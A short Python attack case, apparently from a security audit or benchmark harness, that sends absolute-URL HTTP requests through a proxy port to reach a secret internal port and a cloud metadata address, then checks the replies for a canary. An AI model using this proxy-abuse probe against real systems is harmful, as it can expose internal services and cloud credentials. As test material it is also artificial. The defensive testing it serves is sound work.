"""Sends a whole URL as the request's target, as to a forward proxy."""

from pacabench.audit.attacks.kit import Found, Given, found, keyed, raw_http


def attack(given: Given) -> Found:
    """See above."""
    seen = {}
    for host in (f"{given['wan']}:{given['secret_port']}", f"{given['metadata']}:80"):
        request = f"GET http://{host}/latest HTTP/1.1\r\nHost: {host}\r\n{keyed()}\r\n".encode()
        seen[host] = raw_http(given["lane_port"], request)[:300]
    return found(any("canary" in text for text in seen.values()), answers=seen)
